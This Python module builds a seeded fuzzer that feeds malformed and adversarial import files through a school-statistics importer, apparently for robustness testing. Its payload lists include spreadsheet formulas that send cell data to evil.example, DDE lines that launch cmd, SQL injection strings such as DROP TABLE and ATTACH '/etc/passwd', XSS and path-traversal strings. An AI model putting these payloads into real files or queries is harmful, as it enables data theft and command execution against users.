# Hostile import files: a seeded generator of malformed and adversarial files for every registered
# import kind, and a runner that pushes them through run_import and checks what must hold.
"""Hostile input for the importers.

What must hold for every file, whatever it contains: `run_import` either succeeds or raises
ImportRejected (never another exception, which would be a traceback on the upload page), the
database file is byte-identical after every rejection, and no parser crashes on it (a crash
becomes the vague `parse_error` message instead of a line and a column to fix).

Files are mutations of a good seed per kind (the kind's template in data/templates/, the first
lines of Skolverket's real exports in ../shared/data, a generated workbook) so that most of
them get past the first checks and exercise the deeper ones. The generator is deterministic
for a given seed, so a failure can be replayed: the report names the mutation and the kind.
"""

from __future__ import annotations

import contextlib
import hashlib
import io
import os
import random
import shutil
import tempfile
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]
SHARED = ROOT.parent / "shared" / "data"
TEMPLATES = ROOT / "data" / "templates"

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1;"Klicka här")', "=1+1", "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd",
            "-2+3+cmd|' /C calc'!A0", "=IMPORTXML(CONCAT(\"http://evil.example/?\";A1);\"//a\")",
            '=WEBSERVICE("http://evil.example")', "\t=1+1", "\r=1+1", "=DDE(\"cmd\";\"/C calc\";\"x\")"]
SQL = ["'; DROP TABLE school; --", "1440' OR '1'='1", "\"; DELETE FROM eligibility_school; --",
       "1); ATTACH '/etc/passwd' AS x; --", "' UNION SELECT * FROM meta --", "$$; COPY school TO '/tmp/x.csv'",
       "read_csv('/etc/passwd')", "%' --", "\\'; --"]
WRONG_TYPES = ["abc", "NaN", "nan", "inf", "-inf", "Infinity", "1e309", "-1", "-0", "0x1F", "12,3,4", "1.234.567",
               "1 2 3", "12..5", ",5", "5,", "½", "٣", "１２", "1_000", "true", "None", "null", "[]", "{}", "0b101",
               "2024/25/26", "2024-13", "2024-02-30", "9999-99-99", "20240101", "24/25", "2024/2025", "~~100",
               "...", "-", "*", "~100", ".."]
GIANT = ["9" * 40, "9" * 400, "99999999999", "2147483648", "-2147483649", "18446744073709551616", "1e308",
         "1,7976931348623157e308", "1" + "0" * 310, "0," + "0" * 5000 + "1", "340,0000000000001", "100,00000001"]
CONTROL = ["\x00", "\x01", "\x07", "\x08", "\x1b[31m", "\x7f", "\u202e", "\u2028", "\u2029", "\x85", "\x0b",
           "\x0c", "\x1c", "\ufeff", "\u200b", "\ud800".encode("utf-8", "surrogatepass").decode("utf-8", "replace")]
UNICODE = ["Göteborg\u0301", "ＡＢＣ", "🙂🙃", "\u0000\u0000", "Z̤͔ͧ̑̓ä͖̭̈̇lͮ̒ͫǧ̗͚̚o̙̔ͮ̇͐̇", "ﷺ", "𝔘𝔫𝔦𝔠𝔬𝔡𝔢",
           "a" * 70_000, "<script>alert(1)</script>", "[länk](javascript:alert(1))", ":material/warning:",
           "$\\frac{1}{0}$", "../../etc/passwd", "C:\\Windows\\system32", "%s%s%s%n", "{0}{1}{__class__}"]


@dataclass(frozen=True)
class HostileFile:
    kind: str
    mutation: str
    name: str
    raw: bytes


# --------------------------------------------------------------------------- seeds

def _head(path: Path, lines: int) -> bytes:
    raw = path.read_bytes()
    return b"\n".join(raw.splitlines()[:lines]) + b"\n"


def _series_workbook() -> bytes:
    """A small 'Jämförelse av betygsresultat över tid' workbook (banner, header, kommun × measure rows)."""
    import openpyxl

    book = openpyxl.Workbook()
    ws = book.active
    ws.title = "Samtliga"
    ws.append(["Grundskola - Jämförelse av betygsresultat över tid"])
    ws.append([])
    ws.append(["Kommun", "Kommunkod", "Län", "Länskod", "Uppgift", "2024/25", "2023/24"])
    ws.append(["Ale", "1440", "Västra Götalands län", "14", "Totalt antal elever årskurs 9", 434, 420])
    ws.append(["Ale", "1440", "Västra Götalands län", "14", "Andel (%) behöriga till yrkesprogram", 81.6, "~100"])
    ws.append(["Ale", "1440", "Västra Götalands län", "14", "Genomsnittligt meritvärde (17 ämnen)", 229.5, ".."])
    buf = io.BytesIO()
    book.save(buf)
    return buf.getvalue()


def _workbook_of(text: str) -> bytes:
    """The same table as a one-sheet workbook, cells as text (templates also accept .xlsx)."""
    import openpyxl

    book = openpyxl.Workbook()
    ws = book.active
    for line in text.splitlines():
        ws.append(line.split(";"))
    buf = io.BytesIO()
    book.save(buf)
    return buf.getvalue()


def seeds(kinds: dict) -> dict[str, list[tuple[str, bytes]]]:
    """A few good files per registered kind: (file name, bytes). Unknown kinds get every seed."""
    school = SHARED / "skolverket" / "Grundskola - Slutbetyg årskurs 9, samtliga elever 2025 Skolnivå.csv"
    kommun = SHARED / "skolverket" / "behorighet_grundskola_2024_25.csv"
    known: dict[str, list[tuple[str, bytes]]] = {
        "skolverket-skola": [(school.name, _head(school, 40))],
        "skolverket-kommun": [(kommun.name, _head(kommun, 40))],
        "skolverket-tidsserie": [("tidsserie.xlsx", _series_workbook())],
    }
    out: dict[str, list[tuple[str, bytes]]] = {}
    for name, kind in kinds.items():
        files = list(known.get(name, []))
        template = getattr(kind, "template", None)
        if template and (TEMPLATES / template).exists():
            raw = (TEMPLATES / template).read_bytes()
            files.append((template, raw))
            xlsx = (TEMPLATES / template).with_suffix(".xlsx")
            if xlsx.exists():
                files.append((xlsx.name, xlsx.read_bytes()))
        out[name] = files
    everything = [f for files in out.values() for f in files]
    for name in out:
        if not out[name]:  # `auto` and any kind without a template: all seeds
            out[name] = everything
    return out


# --------------------------------------------------------------------------- mutations

def _text(raw: bytes) -> str:
    try:
        return raw.decode("utf-8-sig")
    except UnicodeDecodeError:
        return raw.decode("cp1252", "replace")


def _lines(raw: bytes) -> list[str]:
    return _text(raw).splitlines()


def _join(lines: list[str]) -> bytes:
    return ("\n".join(lines) + "\n").encode("utf-8", "surrogatepass")


def _data_line(lines: list[str]) -> int:
    """Index of a data line: the last line with as many ';' as the most ';'-rich line."""
    most = max((ln.count(";") for ln in lines), default=0)
    rows = [i for i, ln in enumerate(lines) if ln.count(";") == most and most > 0]
    return rows[-1] if rows else max(0, len(lines) - 1)


def _set_field(rng: random.Random, raw: bytes, value: str) -> bytes:
    if raw[:4] == b"PK\x03\x04":
        return _set_cell(rng, raw, value)
    lines = _lines(raw)
    if not lines:
        return value.encode("utf-8", "surrogatepass")
    i = _data_line(lines)
    fields = lines[i].split(";")
    j = rng.randrange(len(fields))
    fields[j] = value
    lines[i] = ";".join(fields)
    return _join(lines)


def _set_cell(rng: random.Random, raw: bytes, value: str) -> bytes:
    import openpyxl

    book = openpyxl.load_workbook(io.BytesIO(raw))
    ws = book.worksheets[0]
    row = rng.randint(max(1, ws.max_row - 2), max(1, ws.max_row))
    col = rng.randint(1, max(1, ws.max_column))
    safe = "".join(ch for ch in value if ch in "\t\n\r" or ord(ch) >= 32)  # openpyxl refuses control chars
    ws.cell(row=row, column=col).value = safe[:32_000]
    buf = io.BytesIO()
    book.save(buf)
    return buf.getvalue()


def _choice(values: list[str]) -> Callable[[random.Random, bytes], bytes]:
    return lambda rng, raw: _set_field(rng, raw, rng.choice(values))


def _every_field(values: list[str]) -> Callable[[random.Random, bytes], bytes]:
    def mutate(rng: random.Random, raw: bytes) -> bytes:
        lines = _lines(raw)
        i = _data_line(lines)
        lines[i] = ";".join(rng.choice(values) for _ in lines[i].split(";"))
        return _join(lines)
    return mutate


def _insert_control(rng: random.Random, raw: bytes) -> bytes:
    return _set_field(rng, raw, "Skola" + rng.choice(CONTROL) + "namn")


def _huge_line(rng: random.Random, raw: bytes) -> bytes:
    lines = _lines(raw)
    lines.insert(rng.randint(0, len(lines)), "x" * rng.choice([100_001, 250_000, 1_000_000]))
    return _join(lines)


def _huge_field(rng: random.Random, raw: bytes) -> bytes:
    return _set_field(rng, raw, rng.choice(["1", "a", ";", "\""]) * rng.choice([99_990, 150_000]))


def _many_columns(rng: random.Random, raw: bytes) -> bytes:
    lines = _lines(raw)
    i = _data_line(lines)
    lines[i] = lines[i] + ";" * rng.choice([1, 2, 500, 20_000])
    return _join(lines)


def _many_rows(rng: random.Random, raw: bytes) -> bytes:
    lines = _lines(raw)
    i = _data_line(lines)
    return _join(lines + [lines[i]] * rng.choice([2, 50, 3_000]))


def _drop_column(rng: random.Random, raw: bytes) -> bytes:
    lines = _lines(raw)
    header = max(range(len(lines)), key=lambda k: lines[k].count(";")) if lines else 0
    out = []
    j = rng.randrange(max(1, lines[header].count(";") + 1)) if lines else 0
    for k, line in enumerate(lines):
        fields = line.split(";")
        if k >= header and len(fields) > j:
            del fields[j]
        out.append(";".join(fields))
    return _join(out)


def _header_only(rng: random.Random, raw: bytes) -> bytes:
    lines = _lines(raw)
    return _join(lines[: _data_line(lines)])


def _duplicate_header(rng: random.Random, raw: bytes) -> bytes:
    lines = _lines(raw)
    i = _data_line(lines)
    return _join(lines[:i] + [lines[0]] * 2 + lines[i:])


def _separator(rng: random.Random, raw: bytes) -> bytes:
    sep = rng.choice([",", "\t", "|", " ", ";;", ":"])
    return _text(raw).replace(";", sep).encode("utf-8")


def _line_ends(rng: random.Random, raw: bytes) -> bytes:
    end = rng.choice(["\r", "\r\r\n", "\n\n\n", "\u2028", "\x85", "\x1e", "\x0c"])
    return end.join(_lines(raw)).encode("utf-8")


def _quotes(rng: random.Random, raw: bytes) -> bytes:
    return _set_field(rng, raw, rng.choice(['"', '"abc', 'a"b"c', '"""', '"1;2;3"', '"\n"', "'", "`"]))


def _encoding(rng: random.Random, raw: bytes) -> bytes:
    text = _text(raw)
    enc = rng.choice(["utf-16", "utf-16-le", "utf-16-be", "utf-32", "latin-1", "shift_jis", "cp437", "koi8-r",
                      "utf-7", "mixed"])
    if enc == "mixed":
        half = len(text) // 2
        return text[:half].encode("utf-8") + text[half:].encode("cp1252", "replace")
    return text.encode(enc, "replace")


def _bom(rng: random.Random, raw: bytes) -> bytes:
    boms = [b"\xef\xbb\xbf", b"\xff\xfe", b"\xfe\xff", b"\x00\x00\xfe\xff", b"\xef\xbb\xbf\xef\xbb\xbf"]
    bom = rng.choice(boms)
    if rng.random() < 0.5:
        return bom + raw
    cut = rng.randrange(max(1, len(raw)))
    return raw[:cut] + bom + raw[cut:]


def _nul(rng: random.Random, raw: bytes) -> bytes:
    where = rng.choice(["start", "middle", "late", "every"])
    if where == "every":
        return b"\x00".join(raw[i:i + 1] for i in range(len(raw)))
    cut = {"start": 0, "middle": len(raw) // 2, "late": max(0, len(raw) - 3)}[where]
    if where == "late" and len(raw) > 5000:
        cut = 5000 + rng.randrange(len(raw) - 5000)  # beyond the first 4 kB a decoder may sniff
    return raw[:cut] + b"\x00" * rng.choice([1, 3, 100]) + raw[cut:]


def _binary(rng: random.Random, raw: bytes) -> bytes:
    kind = rng.choice(["random", "png", "zip", "gzip", "pdf", "elf", "empty", "space", "bom", "xlsx_junk",
                       "truncated"])
    if kind == "random":
        return rng.randbytes(rng.choice([1, 17, 4096, 70_000]))
    if kind == "png":
        return b"\x89PNG\r\n\x1a\n" + rng.randbytes(500)
    if kind in ("zip", "xlsx_junk"):
        return b"PK\x03\x04" + rng.randbytes(rng.choice([0, 30, 2000]))
    if kind == "gzip":
        return b"\x1f\x8b\x08\x00" + rng.randbytes(300)
    if kind == "pdf":
        return b"%PDF-1.7\n" + rng.randbytes(300)
    if kind == "elf":
        return b"\x7fELF\x02\x01\x01" + rng.randbytes(300)
    if kind == "empty":
        return b""
    if kind == "space":
        return rng.choice([b" ", b"\n", b"\r\n\r\n", b";;;;", b"\t\t"])
    if kind == "bom":
        return b"\xef\xbb\xbf"
    return raw[: rng.randrange(1, max(2, len(raw)))]


def _flip_bytes(rng: random.Random, raw: bytes) -> bytes:
    data = bytearray(raw or b"x")
    for _ in range(rng.choice([1, 5, 50])):
        data[rng.randrange(len(data))] = rng.randrange(256)
    return bytes(data)


def _zip_members(rng: random.Random, raw: bytes) -> bytes:
    """A workbook whose parts are broken: a member replaced, or a zip that only looks like .xlsx."""
    import zipfile

    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        choice = rng.choice(["no_workbook", "bad_xml", "huge_dim", "csv_inside"])
        if choice == "no_workbook":
            z.writestr("hello.txt", "not a workbook")
        elif choice == "bad_xml":
            z.writestr("[Content_Types].xml", "<Types><<<")
            z.writestr("xl/workbook.xml", "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a 'a'>]><workbook>&a;")
        elif choice == "huge_dim":
            z.writestr("[Content_Types].xml", "<Types/>")
            z.writestr("xl/worksheets/sheet1.xml", "<worksheet><dimension ref='A1:XFD1048576'/></worksheet>")
        else:
            z.writestr("data.csv", _text(raw) if raw[:4] != b"PK\x03\x04" else "a;b")
    return buf.getvalue()


def _xlsx_formula(rng: random.Random, raw: bytes) -> bytes:
    """The seed's table as a workbook with a formula or hostile text in a cell."""
    base = raw if raw[:4] == b"PK\x03\x04" else _workbook_of(_text(raw))
    return _set_cell(rng, base, rng.choice(FORMULAS + SQL + UNICODE[:8]))


MUTATIONS: dict[str, Callable[[random.Random, bytes], bytes]] = {
    "wrong_type": _choice(WRONG_TYPES),
    "wrong_types_everywhere": _every_field(WRONG_TYPES),
    "giant_number": _choice(GIANT),
    "giant_numbers_everywhere": _every_field(GIANT),
    "formula": _choice(FORMULAS),
    "formulas_everywhere": _every_field(FORMULAS),
    "sql": _choice(SQL),
    "sql_everywhere": _every_field(SQL),
    "unicode": _choice(UNICODE),
    "control_char": _insert_control,
    "huge_line": _huge_line,
    "huge_field": _huge_field,
    "many_columns": _many_columns,
    "many_rows": _many_rows,
    "drop_column": _drop_column,
    "header_only": _header_only,
    "duplicate_header": _duplicate_header,
    "separator": _separator,
    "line_ends": _line_ends,
    "quotes": _quotes,
    "encoding": _encoding,
    "bom": _bom,
    "nul": _nul,
    "binary": _binary,
    "flip_bytes": _flip_bytes,
    "zip_members": _zip_members,
    "xlsx_cell": _xlsx_formula,
    "empty_values": _every_field(["", " ", "\u00a0", ";"]),
}


def generate(kinds: dict, n: int, seed: int = 7) -> list[HostileFile]:
    """`n` hostile files spread evenly over the kinds and mutations (deterministic for a seed)."""
    rng = random.Random(seed)
    by_kind = seeds(kinds)
    names = sorted(by_kind)
    mutations = list(MUTATIONS)
    files = []
    for i in range(n):
        kind = names[i % len(names)]
        mutation = mutations[(i // len(names)) % len(mutations)]
        file_name, raw = rng.choice(by_kind[kind])
        try:
            data = MUTATIONS[mutation](rng, raw)
        except Exception as exc:  # a generator bug must not look like an importer bug
            raise RuntimeError(f"mutation {mutation} failed on {file_name}") from exc
        suffix = Path(file_name).suffix if rng.random() < 0.9 else rng.choice([".csv", ".xlsx", ".txt", ""])
        files.append(HostileFile(kind, mutation, f"hostile-{i:04d}{suffix}", data))
    return files


# --------------------------------------------------------------------------- running

@dataclass
class Outcome:
    files: int = 0
    rejected: int = 0
    accepted: int = 0
    crashes: list[str] = field(default_factory=list)  # exceptions other than ImportRejected
    parse_errors: list[str] = field(default_factory=list)  # a parser raised (caught as parse_error)
    changed: list[str] = field(default_factory=list)  # database changed although rejected
    unsafe_messages: list[str] = field(default_factory=list)  # control characters in a message
    seconds: float = 0.0
    per_kind: dict[str, int] = field(default_factory=dict)
    timings: list[tuple[float, str]] = field(default_factory=list)
    accepted_files: list[str] = field(default_factory=list)


def _digest(path: Path) -> tuple[str, int, int]:
    st = os.stat(path)
    return hashlib.sha256(path.read_bytes()).hexdigest(), st.st_ino, st.st_mtime_ns


def base_database(path: Path) -> Path:
    """A small real (non-demo) database with the template schools, so files reach the deep checks."""
    from pluginnan_core import db
    from pluginnan_core.importers import run_import

    with db.writing(path, create=True, keep_previous=False):
        pass
    for kind, name in [("eligibility", "behorighet_skola.csv"), ("eligibility-kommun", "behorighet_kommun.csv"),
                       ("absence", "franvaro_manad.csv"), ("subprojects", "delprojekt.csv")]:
        if (TEMPLATES / name).exists():
            run_import(path, kind, [TEMPLATES / name])
    with contextlib.suppress(FileNotFoundError):
        db.previous_path(path).unlink()
    return path


def _unsafe(text: str) -> bool:
    return any((ord(ch) < 32 and ch != "\n") or 0x7f <= ord(ch) < 0xa0 for ch in text)


def run(files: list[HostileFile], workdir: Path | None = None) -> Outcome:
    """Push every file through run_import on one small database; restore it after any success.

    Why the schools list is cached: run_import opens the database twice per call just to
    list the known schools (~80 ms); the file only changes after a success, when the cache is
    dropped, so caching keeps hundreds of files fast without changing what is tested.
    """
    from unittest import mock

    from pluginnan_core import importers

    original = importers._schools_frame
    cache: dict[tuple, object] = {}

    def schools_frame(path: Path):
        key = (str(path), *_stat(Path(path)))
        if key not in cache:
            cache[key] = original(path)
        return cache[key].copy()

    with mock.patch.object(importers, "_schools_frame", schools_frame):
        return _run(files, workdir)


def _stat(path: Path) -> tuple[int, int, int]:
    try:
        st = os.stat(path)
    except FileNotFoundError:
        return (0, 0, 0)
    return st.st_ino, st.st_mtime_ns, st.st_size


def _run(files: list[HostileFile], workdir: Path | None) -> Outcome:
    from pluginnan_core import db
    from pluginnan_core.importers import ImportRejected, run_import

    out = Outcome()
    started = time.perf_counter()
    with tempfile.TemporaryDirectory(dir=workdir) as tmp:
        tmpdir = Path(tmp)
        path = base_database(tmpdir / "hostile.duckdb")
        pristine = tmpdir / "pristine.duckdb"
        shutil.copyfile(path, pristine)
        before = _digest(path)
        for f in files:
            out.files += 1
            out.per_kind[f.kind] = out.per_kind.get(f.kind, 0) + 1
            source = tmpdir / f.name
            source.write_bytes(f.raw)
            t0 = time.perf_counter()
            label = f"{f.name} ({f.kind}, {f.mutation})"
            try:
                run_import(path, f.kind, [source])
            except ImportRejected as exc:
                out.rejected += 1
                codes = {p.code for p in exc.problems.items}
                if "parse_error" in codes:
                    crash = next(p for p in exc.problems.items if p.code == "parse_error")
                    out.parse_errors.append(f"{label}: {crash.message('sv')[:160]}")
                if _unsafe(exc.problems.report("sv")) or _unsafe(exc.problems.report("en")):
                    out.unsafe_messages.append(label)
                if _digest(path) != before:
                    out.changed.append(label)
            except Exception as exc:  # the point of the exercise: anything else is a failure
                out.crashes.append(f"{label}: {type(exc).__name__}: {str(exc)[:200]}")
                if _digest(path) != before:
                    out.changed.append(label)
            else:
                out.accepted += 1
                out.accepted_files.append(label)
                shutil.copyfile(pristine, path)
                with contextlib.suppress(FileNotFoundError):
                    db.previous_path(path).unlink()
                before = _digest(path)
            finally:
                source.unlink()
                out.timings.append((time.perf_counter() - t0, label))
    out.seconds = time.perf_counter() - started
    return out


@contextlib.contextmanager
def quiet() -> Iterator[None]:
    """openpyxl warns about odd workbooks; the warnings are expected here."""
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        yield
